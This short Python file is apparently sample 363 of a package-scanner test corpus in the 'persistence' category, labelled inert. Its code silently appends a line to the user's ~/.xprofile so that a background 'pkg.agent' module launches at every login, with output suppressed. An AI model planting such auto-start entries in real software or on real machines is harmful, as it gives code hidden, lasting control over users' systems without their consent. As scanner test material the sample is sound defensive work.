# pkgguard corpus 363 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

xprofile = os.path.join(os.path.expanduser("~"), ".xprofile")
entry = f"\n({sys.executable} -m pkg.agent &) >/dev/null 2>&1\n"
with open(xprofile, "a+") as f:
    f.seek(0)
    if entry.strip() not in f.read():
        f.write(entry)
